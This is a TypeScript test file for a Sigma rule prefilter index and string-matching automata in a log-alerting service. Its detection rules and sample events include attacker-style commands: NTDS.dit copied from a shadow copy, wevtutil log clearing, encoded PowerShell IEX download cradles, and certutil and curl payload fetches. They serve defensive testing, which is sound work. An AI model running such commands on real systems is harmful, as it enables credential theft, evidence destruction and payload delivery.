/**
 * The Sigma rule index (detect/sigma/prefilter.ts, automaton.ts): rules looked up by channel and
 * EventID, then by literal values they cannot match without. It must only ever skip rules that
 * could not match: each case compares what the engine (with the index) fires to each rule
 * evaluated on its own over the same events, and checks the index really narrowed the rules run.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'yaml';
import type { LogEvent } from '../../alert-service/src/generated/schema-types.js';
import { compileSigmaDocuments } from '../../alert-service/src/detect/sigma/load.js';
import { AffixTrie, AhoCorasick } from '../../alert-service/src/detect/sigma/automaton.js';
import { literalCover, literalGate } from '../../alert-service/src/detect/sigma/literal-gate.js';
import { PrefilterIndex } from '../../alert-service/src/detect/sigma/prefilter.js';
import { DetectionEngine, DEFAULT_LIMITS } from '../../alert-service/src/detect/engine.js';
import type { CompiledRule } from '../../alert-service/src/detect/compiled.js';
import { CollectSink, ManualClock, T0, win } from './helpers.js';

const SYSMON = 'Microsoft-Windows-Sysmon/Operational';

function rules(yamls: string[]): CompiledRule[] {
  const docs = yamls.map((y, i) => ({ file: `r${i}.yml`, doc: parse(y) as Record<string, unknown> }));
  const { rules: out, skipped } = compileSigmaDocuments(docs, { defaultQuietSec: 900 });
  assert.deepEqual(skipped, []);
  return out;
}

function fired(rs: CompiledRule[], events: LogEvent[]): string[][] {
  return events.map((e) => {
    const sink = new CollectSink();
    new DetectionEngine(rs, sink, new ManualClock(Date.UTC(2030, 0, 1)), DEFAULT_LIMITS).process([e]);
    return sink.signals.map((s) => s.rule_id).sort();
  });
}

/** Each rule on its own, no index: its scope (kinds, channels, EventIDs) and detection. */
function expected(rs: CompiledRule[], events: LogEvent[]): string[][] {
  return events.map((e) =>
    rs.filter((r) => (!r.kinds || r.kinds.has(e.source.kind)) && (!r.channels || (e.source.channel !== undefined && r.channels.has(e.source.channel.toLowerCase()))) && (!r.eventIds || (e.fields.event_id !== undefined && r.eventIds.has(e.fields.event_id))) && r.evaluate(e) !== null).map((r) => r.id).sort(),
  );
}

/** How many rules the index hands the engine for an event. */
function candidates(rs: CompiledRule[], e: LogEvent): number {
  return new PrefilterIndex(rs.filter((r) => r.prefilter)).candidates(e, e.source.channel?.toLowerCase()).length;
}

const sysmon1 = (data: Record<string, string>, t = 0) => win(T0 + t, 1, SYSMON, { Image: 'C:\\Windows\\System32\\svchost.exe', CommandLine: 'svchost.exe -k netsvcs', ...data });

const rule = (id: string, logsource: string, detection: string) => `title: ${id}\nid: ${id}\nlogsource: ${logsource}\ndetection:\n${detection}\nlevel: high`;

test('a rule indexed under its channel and EventID fires on them, and only there', () => {
  const rs = rules([
    rule('by-id', '{product: windows, service: security}', '  sel:\n    EventID: 4720\n    TargetUserName|endswith: "$"\n  condition: sel'),
    rule('proc', '{product: windows, category: process_creation}', '  sel:\n    Image|endswith: "\\\\whoami.exe"\n  condition: sel'),
  ]);
  const byId = rs.find((r) => r.id === 'by-id')!;
  assert.deepEqual(byId.prefilter!.targets.map((t) => [t.channels, t.eventIds]), [[['security'], [4720]]]);
  const events = [
    win(T0, 4720, 'Security', { TargetUserName: 'evil$' }),
    win(T0, 4722, 'Security', { TargetUserName: 'evil$' }), // another EventID
    win(T0, 4720, 'System', { TargetUserName: 'evil$' }), // another channel
    sysmon1({ Image: 'C:\\Windows\\System32\\whoami.exe', CommandLine: 'whoami /all' }),
    win(T0, 4688, 'Security', { NewProcessName: 'C:\\Windows\\System32\\whoami.exe', CommandLine: 'whoami' }), // 4688: Image renamed
    win(T0, 3, SYSMON, { Image: 'C:\\Windows\\System32\\whoami.exe' }), // Sysmon 3 is network_connection
  ];
  assert.deepEqual(fired(rs, events), [['by-id'], [], [], ['proc'], ['proc'], []]);
  assert.deepEqual(fired(rs, events), expected(rs, events));
});

test('a rule with no EventID constraint is tested against every event of its channel', () => {
  const rs = rules([
    rule('channel-wide', '{product: windows, service: security}', '  sel:\n    SubjectUserName: mallory\n  condition: sel'),
    rule('other', '{product: windows, service: security}', '  sel:\n    EventID: 4624\n    LogonType: 9\n  condition: sel'),
  ]);
  assert.equal(rs.find((r) => r.id === 'channel-wide')!.prefilter!.targets[0]!.eventIds, undefined);
  // 4624 has a bucket (the other rule's), 4719 has none: the channel-wide rule is in both.
  const events = [4624, 4719, 1102].map((id) => win(T0, id, 'Security', { SubjectUserName: 'mallory' }));
  events.push(win(T0, 4719, 'Application', { SubjectUserName: 'mallory' }));
  assert.deepEqual(fired(rs, events), [['channel-wide'], ['channel-wide'], ['channel-wide'], []]);
  assert.deepEqual(fired(rs, events), expected(rs, events));
});

test('value atoms narrow the rules run without hiding a match: lists, escapes, keywords, |all, windash, base64offset, regex, homoglyphs', () => {
  const tools = Array.from({ length: 120 }, (_, i) => `'Invoke-Tool${i}x'`).join(', '); // longer than any fixed atom cap
  const rs = rules([
    rule('long-list', '{product: windows, category: process_creation}', `  sel:\n    CommandLine|contains: [${tools}]\n  condition: sel`),
    rule('escaped', '{product: windows, category: process_creation}', "  sel:\n    CommandLine|contains: '\\\\\\\\?\\\\GLOBALROOT\\\\Device\\\\HarddiskVolumeShadowCopy'\n  condition: sel"),
    rule('keyword', '{product: windows, category: process_creation}', "  keywords:\n    - '\\\\perfc.dat'\n  condition: keywords"),
    rule('all', '{product: windows, category: process_creation}', "  sel:\n    CommandLine|contains|all: ['cl', '/Trace']\n  condition: sel"),
    rule('windash', '{product: windows, category: process_creation}', "  sel:\n    CommandLine|windash|contains: ' -encodedcommand '\n  condition: sel"),
    rule('b64', '{product: windows, category: process_creation}', "  sel:\n    CommandLine|base64offset|contains: 'IEX ('\n  condition: sel"),
    rule('regex', '{product: windows, category: process_creation}', "  sel:\n    CommandLine|re: '(?i)frombase64string\\(.*\\)'\n  condition: sel"),
    rule('homoglyph', '{product: windows, category: process_creation}', "  sel:\n    CommandLine|contains: ['\u0430', '\u0435', '\u043e']\n  condition: sel"),
    rule('negated', '{product: windows, category: process_creation}', "  filter:\n    Image|endswith: '.exe'\n  condition: not filter"),
  ]);
  const b64 = Buffer.from('$x = 1; IEX (New-Object Net.WebClient)').toString('base64');
  const cmds = [
    'powershell -c Invoke-Tool77x -Target dc01',
    'cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\NTDS.dit C:\\temp',
    'rundll32.exe C:\\Windows\\perfc.dat,#1',
    'wevtutil cl /Trace:x',
    'powershell /EncodedCommand SQBFAFgA',
    'powershell \u2013encodedcommand SQBFAFgA',
    `powershell -enc ${b64}`,
    'powershell [Convert]::FromBase64String("aGk=")',
    'ping ex\u0430mple.com',
    'svchost.exe -k netsvcs -p -s Schedule', // benign: matches none
    'powershell -c Invoke-Tool77 -Target dc01', // near miss of the list
  ];
  const events = cmds.map((c, i) => sysmon1({ CommandLine: c }, i));
  events.push(sysmon1({ Image: 'C:\\tmp\\payload.scr', CommandLine: 'payload' }, 99));
  const want = expected(rs, events);
  assert.deepEqual(fired(rs, events), want);
  assert.deepEqual(want, [['long-list'], ['escaped'], ['keyword'], ['all'], ['windash'], ['windash'], ['b64'], ['regex'], ['homoglyph'], [], [], ['negated']]);
  // The benign event wakes nothing: the pure negation has no necessary literal, but its filter
  // (an image ending in .exe) holds, which rules it out; on the .scr image it is run.
  assert.equal(candidates(rs, events[9]!), 0);
  assert.equal(candidates(rs, events[events.length - 1]!), 1);
  assert.ok(rs.filter((r) => r.id !== 'negated').every((r) => r.prefilter!.targets.every((t) => t.atoms !== null)));
});

test('two necessary literals, wildcard anchors and vetoes narrow further and still hide no match', () => {
  const rs = rules([
    // Two conjuncts with literals: woken only when ParentImage is winword *and* the command line has the literal.
    rule('two-sets', '{product: windows, category: process_creation}', "  parent:\n    ParentImage|endswith: '\\winword.exe'\n  cli:\n    CommandLine|contains: 'http'\n  condition: parent and cli"),
    // One selection with two items (and |all): each item is a necessary set.
    rule('two-items', '{product: windows, category: process_creation}', "  sel:\n    Image|endswith: '\\certutil.exe'\n    CommandLine|contains|all: ['-urlcache', '-f ']\n  condition: sel"),
    // Wildcard values compared whole: prefix 7z of 7z*.exe, suffix rar.exe of *rar.exe.
    rule('anchored', '{product: windows, category: process_creation}', "  sel:\n    OriginalFileName: ['7z*.exe', '*rar.exe']\n  condition: sel"),
    // Negations only: vetoed by plain filters, one of them a list of maps, another ignored (a wildcard).
    rule('veto', '{product: windows, category: process_creation}', "  known:\n    Image|endswith: ['.exe', '.com']\n  filter_a:\n    - ParentImage|contains: ':\\Windows\\Temp\\'\n    - Image|contains: ':\\Windows\\Temp\\'\n  filter_b:\n    Image|contains: 'Nv*Backend'\n  condition: not known and not 1 of filter_*"),
    // A filter with two items proves nothing alone: no veto from it.
    rule('no-veto', '{product: windows, category: process_creation}', "  filter:\n    Image|endswith: '.dat'\n    User: SYSTEM\n  condition: not filter"),
    // A short regex literal ('-f') is a weak atom, not a reason to run the rule on every event.
    rule('weak', '{product: windows, category: process_creation}', "  sel:\n    CommandLine|re: '\"(?:\\{\\d\\})+\"\\s*-f'\n  condition: sel"),
  ]);
  const two = rs.find((r) => r.id === 'two-sets')!.prefilter!.targets[0]!;
  assert.ok(two.atoms && two.also, 'keyed on both conjuncts');
  assert.ok(rs.find((r) => r.id === 'veto')!.prefilter!.targets.every((t) => t.atoms === null && t.veto && t.veto.length === 4));
  assert.ok(rs.find((r) => r.id === 'no-veto')!.prefilter!.targets.every((t) => t.atoms === null && !t.veto));
  assert.ok(rs.find((r) => r.id === 'weak')!.prefilter!.targets.every((t) => t.atoms !== null));
  const ev = (data: Record<string, string>, t: number) => sysmon1(data, t);
  const events = [
    ev({ ParentImage: 'C:\\Program Files\\Office\\WINWORD.EXE', CommandLine: 'powershell iwr HTTP://x.example/a' }, 1),
    ev({ ParentImage: 'C:\\Program Files\\Office\\WINWORD.EXE', CommandLine: 'powershell -nop' }, 2), // parent only
    ev({ ParentImage: 'C:\\Windows\\explorer.exe', CommandLine: 'curl http://x.example/a' }, 3), // literal only
    ev({ Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -f http://x/a.exe a.exe' }, 4),
    ev({ Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -split' }, 5), // one of |all
    ev({ OriginalFileName: '7zG.exe' }, 6),
    ev({ OriginalFileName: 'WinRAR.exe' }, 7),
    ev({ OriginalFileName: 'x7z.exe' }, 8), // 7z not at the start
    ev({ Image: 'C:\\Windows\\Temp\\payload.bin', ParentImage: 'C:\\Windows\\explorer.exe' }, 9), // filter_a
    ev({ Image: 'C:\\Users\\a\\NvidiaBackend\\x.bin', ParentImage: 'C:\\Windows\\explorer.exe' }, 10), // filter_b only: still runs, matches nothing
    ev({ Image: 'C:\\Users\\a\\x.bin', ParentImage: 'C:\\Windows\\explorer.exe' }, 11),
    ev({ Image: 'C:\\Users\\a\\x.dat', User: 'alice' }, 12),
    ev({ CommandLine: 'powershell "{0}{1}" -f \'a\',\'b\'' }, 13),
  ];
  const want = expected(rs, events);
  assert.deepEqual(fired(rs, events), want);
  // 'no-veto' is a pure negation whose filter needs two fields: it fires on all but such an event.
  assert.deepEqual(want, [['no-veto', 'two-sets'], ['no-veto'], ['no-veto'], ['no-veto', 'two-items'], ['no-veto'], ['anchored', 'no-veto'], ['anchored', 'no-veto'], ['no-veto'], ['no-veto'], ['no-veto'], ['no-veto', 'veto'], ['no-veto', 'veto'], ['no-veto', 'weak']]);
  // Half a pair wakes nothing (1, 2), a wildcard's anchor is not found elsewhere (7), a plain
  // filter vetoes the pure negation (8); 'no-veto' is run on every event.
  assert.deepEqual([1, 2, 7, 8].map((i) => candidates(rs, events[i]!)), [1, 1, 1, 1]);
  assert.deepEqual([9, 10].map((i) => candidates(rs, events[i]!)), [2, 2]);
});

/** A seeded PRNG: the same strings on every run. */
function prng(seed: number): () => number {
  return () => {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff;
    return seed / 0x80000000;
  };
}

test('Aho-Corasick and the affix tries find exactly what a naive search finds (ASCII and non-ASCII)', () => {
  const rand = prng(7);
  const alphabet = ['a', 'b', 'c', '\\', '.', '\u0430', '\u00e9', 'x'];
  const word = (max: number) => Array.from({ length: 1 + Math.floor(rand() * max) }, () => alphabet[Math.floor(rand() * alphabet.length)]).join('');
  for (let round = 0; round < 40; round++) {
    const patterns = [...new Set(Array.from({ length: 1 + Math.floor(rand() * 30) }, () => word(5)))];
    const ac = new AhoCorasick<string>();
    for (const p of patterns) ac.add(p, p);
    ac.build();
    const suffix = new AffixTrie(patterns.map((p) => [p, p] as const), 'suffix');
    const prefix = new AffixTrie(patterns.map((p) => [p, p] as const), 'prefix');
    const cover = literalCover(patterns);
    const gate = literalGate(patterns);
    if (cover) for (const p of patterns) assert.ok(cover.some((c) => p.includes(c)), `cover ${JSON.stringify(cover)} misses ${p}`);
    for (let k = 0; k < 30; k++) {
      const text = word(40);
      const found = new Set<string>();
      ac.search(text, (p) => found.add(p));
      assert.deepEqual([...found].sort(), patterns.filter((p) => text.includes(p)).sort(), `contains in ${JSON.stringify(text)}`);
      assert.equal(ac.containsAny(text), found.size > 0);
      // The keyword gate: false only when no pattern is in the text.
      if (gate && !gate(text)) assert.equal(found.size, 0, `gate of ${JSON.stringify(cover)} missed a pattern in ${JSON.stringify(text)}`);
      const ends: string[] = [];
      suffix.walk(text, (p) => ends.push(p));
      assert.deepEqual(ends.sort(), patterns.filter((p) => text.endsWith(p)).sort(), `suffix of ${JSON.stringify(text)}`);
      const starts: string[] = [];
      prefix.walk(text, (p) => starts.push(p));
      assert.deepEqual(starts.sort(), patterns.filter((p) => text.startsWith(p)).sort(), `prefix of ${JSON.stringify(text)}`);
      assert.equal(prefix.matchesAny(text), starts.length > 0);
    }
  }
});
